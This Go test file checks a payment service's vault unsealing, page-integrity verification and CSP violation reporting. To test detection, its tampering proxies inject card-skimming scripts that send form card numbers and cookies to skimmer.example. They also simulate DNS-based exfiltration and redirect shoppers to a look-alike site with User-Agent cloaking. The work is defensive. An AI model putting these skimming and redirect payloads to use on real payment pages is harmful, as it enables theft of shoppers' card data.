package e2e

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/paypage/paypage/pkg/pagecheck"
	"github.com/paypage/paypage/pkg/vault"
	"github.com/paypage/paypage/pkg/web"
)

// TestSealedUntilCustodiansUnseal starts a service with --unseal-shares 3
// and no master key: pages and APIs answer 503 and /readyz says sealed
// until three custodians' shares are given; wrong, repeated and mixed-up
// shares are refused; seal wipes the key and the service is sealed again.
func TestSealedUntilCustodiansUnseal(t *testing.T) {
	data := filepath.Join(t.TempDir(), "data")
	// The deployment as it was: a master key file, a merchant.
	first := newEnv(t, envOpts{data: data})
	key, err := vault.ReadMasterKeyFile(filepath.Join(data, "master.key"))
	if err != nil {
		t.Fatal(err)
	}
	shares, err := first.app.Vault.Split(context.Background(), key, 5, 3)
	if err != nil {
		t.Fatal(err)
	}
	others, _ := first.app.Vault.Split(context.Background(), key, 5, 3) // a second split
	first.stop()
	if err := os.Remove(filepath.Join(data, "master.key")); err != nil { // the custodians hold it now
		t.Fatal(err)
	}

	e := newEnv(t, envOpts{data: data, noAccounts: true, unseal: 3})
	e.key, e.merchant = first.key, first.merchant
	sealed := func(want bool) {
		t.Helper()
		status, body, _ := e.api("GET", "/readyz", "", nil)
		if want != (status == 503 && body["status"] == "sealed") {
			t.Fatalf("readyz %d %v, sealed: want %v", status, body, want)
		}
		if status, body, _ := e.api("POST", "/v1/sessions", e.key, map[string]any{"amount": 100, "currency": "KZT",
			"success_url": "https://shop.example/ok", "cancel_url": "https://shop.example/no"}); want != (status == 503) {
			t.Fatalf("create session %d %v, sealed: want %v", status, body, want)
		} else if want && body["error"].(map[string]any)["code"] != "unavailable" {
			t.Fatalf("sealed API answer %v", body)
		}
		if p := e.browser().get("/pay/ses_aaaaaaaaaaaaaaaaaaaaaaaaaa"); want != (p.status == 503) {
			t.Fatalf("pay page %d, sealed: want %v", p.status, want)
		}
		// Kaspi's notifications wait too (Kaspi sends them again).
		if status, _, _ := e.api("POST", "/kaspi/notify", "", map[string]any{"qr_id": "qr_x", "external_id": "ses_x"}); want != (status == 503) {
			t.Fatalf("kaspi notify %d, sealed: want %v", status, want)
		}
	}
	sealed(true)
	if status, _, _ := e.api("GET", "/healthz", "", nil); status != 200 {
		t.Fatalf("healthz while sealed: %d", status)
	}
	if status, _, _ := e.api("GET", web.ManifestPath, "", nil); status != 200 {
		t.Fatalf("manifest while sealed: %d", status)
	}
	ctx := context.Background()
	if _, err := e.app.Unseal(ctx, shares[0].Text); err != nil {
		t.Fatal(err)
	}
	for _, bad := range []struct{ share, want string }{
		{shares[0].Text, "given already"},
		{others[1].Text, "mixed-up"},
		{shares[1].Text[:len(shares[1].Text)-1] + "x", "check value"},
	} {
		if _, err := e.app.Unseal(ctx, bad.share); err == nil || !strings.Contains(err.Error(), bad.want) {
			t.Fatalf("share refused with %v, want %q", err, bad.want)
		}
	}
	if p, err := e.app.Unseal(ctx, shares[2].Text); err != nil || !p.Sealed || p.Have != 2 {
		t.Fatalf("second share: %+v %v", p, err)
	}
	sealed(true)
	if p, err := e.app.Unseal(ctx, shares[4].Text); err != nil || p.Sealed {
		t.Fatalf("third share: %+v %v", p, err)
	}
	sealed(false)
	b := e.browser()
	id := e.session(nil)["id"].(string)
	if p := b.follow(b.pay(id, "4242 4242 4242 4242", "123")); !strings.Contains(p.body, "Payment successful") {
		t.Fatalf("payment after unseal:\n%s", p.body)
	}
	e.app.Seal()
	sealed(true)
	if !strings.Contains(e.logs.String(), "vault sealed") {
		t.Fatal("sealing not logged")
	}
}

// TestPageIntegrity serves the page manifest, checks a live page against
// it, and catches a tampering proxy that injects scripts, changes the
// script's content or loosens a security header.
func TestPageIntegrity(t *testing.T) {
	e := newEnv(t, envOpts{})
	want, err := web.BuildManifest(e.url)
	if err != nil {
		t.Fatal(err)
	}
	var served pagecheck.Manifest
	resp, err := http.Get(e.url + web.ManifestPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := jsonDecode(resp.Body, &served); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if d := pagecheck.Compare(served, want); d != nil || len(served.Scripts) != 1 || len(served.Styles) != 1 || len(served.Icons) != 1 ||
		!strings.HasPrefix(served.Scripts[0].SHA384, "sha384-") || served.Headers["Content-Security-Policy"] == "" {
		t.Fatalf("served manifest %+v: %v", served, d)
	}
	id := e.session(nil)["id"].(string)
	diffs, err := pagecheck.Verify(context.Background(), http.DefaultClient, e.url+"/pay/"+id, want)
	if err != nil || len(diffs) != 0 {
		t.Fatalf("the untouched page differs: %v %v", diffs, err)
	}
	kid := e.session(map[string]any{"methods": []string{"card", "kaspi_qr"}})["id"].(string)
	kaspiQR(t, e, e.browser(), kid)
	if diffs, err := pagecheck.Verify(context.Background(), http.DefaultClient, e.url+"/pay/"+kid+"/kaspi", want); err != nil || len(diffs) != 0 {
		t.Fatalf("the untouched Kaspi page differs: %v %v", diffs, err)
	}

	tamper := tamperingProxy(t, e.url, func(r *http.Response, s string) string {
		switch {
		case strings.HasPrefix(r.Header.Get("Content-Type"), "text/html"):
			s = strings.Replace(s, "</head>", `<script src="https://skimmer.example/s.js"></script><script>new Image().src="//x/"+document.forms[0].number.value</script></head>`, 1)
			r.Header.Set("Content-Security-Policy", strings.Replace(r.Header.Get("Content-Security-Policy"), "script-src 'self'", "script-src 'self' https://skimmer.example", 1))
			r.Header.Del("X-Frame-Options")
		case strings.HasPrefix(r.Request.URL.Path, "/static/pay.js"):
			s += "\n;fetch('https://skimmer.example/'+document.cookie)"
		case strings.HasPrefix(r.Request.URL.Path, "/static/favicon.svg"):
			s = strings.Replace(s, "#0b57d0", "#d00b0b", 1)
		}
		return s
	})
	diffs, err = pagecheck.Verify(context.Background(), http.DefaultClient, tamper.URL+"/pay/"+id, want)
	if err != nil {
		t.Fatal(err)
	}
	all := strings.Join(diffs, "\n")
	for _, w := range []string{
		"script https://skimmer.example/s.js is loaded from another origin",
		"inline script sha384-",
		"header Content-Security-Policy is",
		"header X-Frame-Options is missing",
		"/static/pay.js?v=",
		"icon /static/favicon.svg?v=",
	} {
		if !strings.Contains(all, w) {
			t.Errorf("tampering not named: %q in\n%s", w, all)
		}
	}
	if !strings.Contains(all, "has content sha384-") {
		t.Errorf("changed script content not caught:\n%s", all)
	}
}

// TestCSPReports takes violation reports in both formats, keeps only the
// directive, the blocked origin and the page's route, counts them, and
// refuses a flood.
func TestCSPReports(t *testing.T) {
	e := newEnv(t, envOpts{metrics: true})
	post := func(ctype, body string) int {
		resp, err := http.Post(e.url+"/csp-report", ctype, strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	pan := "4242424242424242"
	if s := post("application/csp-report", `{"csp-report":{"document-uri":"`+e.url+`/pay/ses_aaaaaaaaaaaaaaaaaaaaaaaaaa?number=`+pan+`","violated-directive":"script-src-elem","effective-directive":"script-src-elem","blocked-uri":"https://skimmer.example/s.js?card=`+pan+`"}}`); s != 204 {
		t.Fatalf("report-uri format: %d", s)
	}
	if s := post("application/reports+json", `[{"type":"csp-violation","url":"`+e.url+`/pay/x","body":{"documentURL":"`+e.url+`/pay/ses_aaaaaaaaaaaaaaaaaaaaaaaaaa/kaspi","effectiveDirective":"img-src","blockedURL":"https://evil.example/`+pan+`.png","sample":"`+pan+`"}}]`); s != 204 {
		t.Fatalf("Reporting API format: %d", s)
	}
	if s := post("application/json", strings.Repeat("x", 20<<10)); s != 413 && s != 400 {
		t.Fatalf("oversized report: %d", s)
	}
	e.app.WriteCSPReports(context.Background()) // the counts so far, as paypage csp-reports writes them
	ents, err := e.app.Store().Read(context.Background(), "csp-reports", "", 10)
	if err != nil || len(ents) != 2 {
		t.Fatalf("recorded %d reports: %v", len(ents), err)
	}
	kept := string(ents[0].Data) + string(ents[1].Data) + e.logs.String()
	if strings.Contains(kept, pan) || strings.Contains(kept, "ses_aaaa") {
		t.Fatalf("a report kept more than directive, origin and route:\n%s", kept)
	}
	for _, w := range []string{`"directive":"script-src-elem"`, `"blocked":"https://skimmer.example"`, `"page":"/pay/{id}"`, `"page":"/pay/{id}/kaspi"`, `"directive":"img-src"`} {
		if !strings.Contains(kept, w) {
			t.Errorf("report record lacks %s:\n%s", w, kept)
		}
	}
	metrics := get(t, e.metrics+"/metrics")
	for _, w := range []string{`paypage_csp_violations_total{directive="script-src-elem"} 1`, `paypage_csp_violations_total{directive="img-src"} 1`} {
		if !strings.Contains(metrics, w) {
			t.Errorf("metrics lack %s", w)
		}
	}
	// A flood is cut off by the rate limit, and counted.
	refused := 0
	for range 100 {
		if post("application/csp-report", `{"csp-report":{"effective-directive":"style-src","blocked-uri":"inline"}}`) == 429 {
			refused++
		}
	}
	if refused == 0 || !strings.Contains(get(t, e.metrics+"/metrics"), "paypage_csp_reports_dropped_total") {
		t.Fatal("100 reports at once were all taken")
	}
}

func get(t *testing.T, u string) string {
	t.Helper()
	resp, err := http.Get(u)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return string(b)
}

// TestBrowserReportsCSPViolation makes Chromium break the payment page's
// Content-Security-Policy (an image from another origin, an inline script)
// and sees the reports it sends recorded and counted.
func TestBrowserReportsCSPViolation(t *testing.T) {
	if testing.Short() {
		t.Skip("needs chromium")
	}
	// Over https, as in production: Chromium sends Reporting API reports
	// only to a secure endpoint (over plain http it keeps retrying).
	certFile, keyFile := writeCert(t, t.TempDir(), 1)
	e := newEnv(t, envOpts{metrics: true, tlsCert: certFile, tlsKey: keyFile})
	b := startChromeWith(t, "short-reporting-delay", "", "ignore-certificate-errors", "") // send at once, not after a minute
	id := e.session(nil)["id"].(string)
	p := b.MustPage(e.url + "/pay/" + id)
	t.Cleanup(func() { _ = p.Close() })
	p.MustWaitLoad()
	p.MustEval(`() => {
		const img = document.createElement("img");
		img.src = "https://skimmer.example/pixel.png";
		document.body.appendChild(img);
		const s = document.createElement("script");
		s.textContent = "window.skimmed = 1";
		document.body.appendChild(s);
	}`)
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(200 * time.Millisecond) {
		m := get(t, e.metrics+"/metrics")
		if strings.Contains(m, `paypage_csp_violations_total{directive="img-src"}`) &&
			strings.Contains(m, `paypage_csp_violations_total{directive="script-src-elem"}`) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("no violation counted in 10 s:\n%s\n%s", grepLines(m, "csp"), grepLines(e.logs.String(), "\"http\""))
		}
	}
	if p.MustEval(`() => window.skimmed === 1`).Bool() {
		t.Fatal("the injected inline script ran")
	}
	e.app.WriteCSPReports(context.Background()) // the counts so far, as paypage csp-reports writes them
	ents, err := e.app.Store().Read(context.Background(), "csp-reports", "", 10)
	if err != nil || len(ents) < 2 {
		t.Fatalf("%d reports recorded: %v", len(ents), err)
	}
	all := ""
	for _, en := range ents {
		all += string(en.Data)
	}
	if !strings.Contains(all, `"blocked":"https://skimmer.example"`) || !strings.Contains(all, `"page":"/pay/{id}"`) || strings.Contains(all, id) {
		t.Fatalf("recorded reports: %s", all)
	}
}

// TestCSPReportKeepsNoCardDataInTheBlockedURL (from the review of issue 14): "each report is kept as three
// fields only ... the blocked URL's origin": a skimmer that exfiltrates by
// DNS (an image from https://<PAN>.<exp>.<cvv>.skim.example/) makes the
// browser report that origin, and the origin is the card. web/integrity.go
// originOf keeps u.Host verbatim: the PAN lands in the store's csp-reports
// log and in the warn log line.
func TestCSPReportKeepsNoCardDataInTheBlockedURL(t *testing.T) {
	e := newEnv(t, envOpts{})
	pan := "4242424242424242"
	body := `[{"type":"csp-violation","url":"` + e.url + `/pay/x","body":{"documentURL":"` + e.url +
		`/pay/ses_aaaaaaaaaaaaaaaaaaaaaaaaaa","effectiveDirective":"img-src","blockedURL":"https://` + pan + `.1230.981.skim.example/p.gif"}}]`
	resp, err := http.Post(e.url+"/csp-report", "application/reports+json", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 204 {
		t.Fatalf("report: %d", resp.StatusCode)
	}
	e.app.WriteCSPReports(context.Background()) // the counts so far, as paypage csp-reports writes them
	ents, err := e.app.Store().Read(context.Background(), "csp-reports", "", 10)
	if err != nil || len(ents) != 1 {
		t.Fatalf("recorded %d reports: %v", len(ents), err)
	}
	if kept := string(ents[0].Data) + e.logs.String(); strings.Contains(kept, pan) {
		t.Fatalf("a CSP report kept a card number (in the blocked origin):\n%s", string(ents[0].Data))
	}
}

// TestVerifyPageCatchesANavigationAway (from the review of issue 14): verify-page must exit
// non-zero "when a script, style, inline script or security header differs"
// and the aim is to know "if someone changed the payment page"
// (11.6.1: the contents of the page as received). A tampering proxy that
// leaves scripts, styles and headers alone but adds
// <meta http-equiv="refresh"> to a look-alike page (no CSP directive stops a
// navigation) and points the card form elsewhere passes: pagecheck.Verify
// looks at no element but script, link, style, iframe, object and embed,
// and at no attribute but on*, and javascript: in href/src/action.
func TestVerifyPageCatchesANavigationAway(t *testing.T) {
	e := newEnv(t, envOpts{})
	want, err := web.BuildManifest(e.url)
	if err != nil {
		t.Fatal(err)
	}
	id := e.session(nil)["id"].(string)
	tamper := tamperingProxy(t, e.url, func(r *http.Response, s string) string {
		if !strings.HasPrefix(r.Header.Get("Content-Type"), "text/html") {
			return s
		}
		s = strings.Replace(s, "</head>", `<meta http-equiv="refresh" content="8;url=https://pay-secure.example/pay/`+id+`"></head>`, 1)
		return strings.ReplaceAll(s, `<form method="post" action="`, `<form method="post" action="https://pay-secure.example/collect" data-was="`)
	})
	diffs, err := pagecheck.Verify(context.Background(), http.DefaultClient, tamper.URL+"/pay/"+id, want)
	if err != nil {
		t.Fatal(err)
	}
	// The page did change: make sure the proxy really rewrote it.
	resp, err := http.Get(tamper.URL + "/pay/" + id)
	if err != nil {
		t.Fatal(err)
	}
	page, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if !strings.Contains(string(page), `http-equiv="refresh"`) || !strings.Contains(string(page), `action="https://pay-secure.example/collect"`) {
		t.Fatal("the proxy did not tamper (test harness)")
	}
	if len(diffs) == 0 {
		t.Fatal("verify-page found nothing on a page that sends the shopper to another site and posts the card form to it")
	}
	all := strings.Join(diffs, "\n")
	for _, w := range []string{"<meta http-equiv=refresh> sends the shopper to https://pay-secure.example/pay/", "<form action> posts to another origin: https://pay-secure.example/collect"} {
		if !strings.Contains(all, w) {
			t.Errorf("not named: %q in\n%s", w, all)
		}
	}

	// A cloaking proxy tampers only for browsers (by User-Agent), and
	// sends the shopper away by other means: a Refresh header, a formaction,
	// a base URL, a link, a header of its own.
	cloaked := tamperingProxy(t, e.url, func(r *http.Response, s string) string {
		if !strings.HasPrefix(r.Header.Get("Content-Type"), "text/html") || !strings.Contains(r.Request.UserAgent(), "Mozilla/") {
			return s
		}
		s = strings.Replace(s, "</head>", `<base href="https://pay-secure.example/"></head>`, 1)
		s = strings.Replace(s, `<button`, `<button formaction="https://pay-secure.example/collect"`, 1)
		s = strings.Replace(s, "</main>", `<a href="https://pay-secure.example/help">Help</a></main>`, 1)
		r.Header.Set("Refresh", "30; url=https://pay-secure.example/pay/"+id)
		r.Header.Set("X-Served-By", "edge-7")
		return s
	})
	if d, err := pagecheck.VerifyWith(context.Background(), http.DefaultClient, cloaked.URL+"/pay/"+id, want, pagecheck.Options{UserAgent: "Go-http-client/1.1"}); err != nil || len(d) != 0 {
		t.Fatalf("the cloaking proxy must show tools the real page (test harness): %v %v", d, err)
	}
	diffs, err = pagecheck.Verify(context.Background(), http.DefaultClient, cloaked.URL+"/pay/"+id, want)
	if err != nil {
		t.Fatal(err)
	}
	all = strings.Join(diffs, "\n")
	for _, w := range []string{
		`<base href="https://pay-secure.example/">`,
		"<button formaction> posts to another origin: https://pay-secure.example/collect",
		"<a href> links to another origin: https://pay-secure.example/help",
		`header Refresh "30; url=https://pay-secure.example/pay/`,
		"header X-Served-By is not in the manifest",
	} {
		if !strings.Contains(all, w) {
			t.Errorf("the cloaked tampering not named: %q in\n%s", w, all)
		}
	}
	// A header the operator's own CDN adds can be allowed.
	diffs, _ = pagecheck.VerifyWith(context.Background(), http.DefaultClient, cloaked.URL+"/pay/"+id, want, pagecheck.Options{AllowHeaders: []string{"x-served-by"}})
	if strings.Contains(strings.Join(diffs, "\n"), "X-Served-By") {
		t.Errorf("an allowed header is still named: %v", diffs)
	}
}

// tamperingProxy is a reverse proxy in front of the service at origin
// that rewrites each answer's body (and may change its headers) with edit.
func tamperingProxy(t *testing.T, origin string, edit func(r *http.Response, body string) string) *httptest.Server {
	t.Helper()
	target, err := url.Parse(origin)
	if err != nil {
		t.Fatal(err)
	}
	proxy := httputil.NewSingleHostReverseProxy(target)
	proxy.ModifyResponse = func(r *http.Response) error {
		b, err := io.ReadAll(r.Body)
		r.Body.Close()
		if err != nil {
			return err
		}
		s := edit(r, string(b))
		r.Body = io.NopCloser(strings.NewReader(s))
		r.ContentLength = int64(len(s))
		r.Header.Del("Content-Length")
		return nil
	}
	srv := httptest.NewServer(proxy)
	t.Cleanup(srv.Close)
	return srv
}

// TestCSPReportsCommandBesideService: reports are counted in the running
// service's memory and written a minute at a time, one record per
// directive, blocked domain and page with its count; paypage csp-reports,
// run beside the service, writes the counts so far first, so the operator
// sees them at once.
func TestCSPReportsCommandBesideService(t *testing.T) {
	w := newWorld(t, "bolt")
	svc := w.serve()
	for range 3 {
		resp, err := http.Post(svc.url+"/csp-report", "application/csp-report",
			strings.NewReader(`{"csp-report":{"effective-directive":"img-src","blocked-uri":"https://skim.example/p.gif","document-uri":"`+svc.url+`/pay/x"}}`))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != 204 {
			t.Fatalf("report: %d", resp.StatusCode)
		}
	}
	var reps []web.CSPReport
	w.ok(&reps, "csp-reports")
	if len(reps) != 1 || reps[0].Count != 3 || reps[0].Blocked != "https://skim.example" || reps[0].Directive != "img-src" {
		t.Fatalf("csp-reports beside the service: %+v", reps)
	}
}
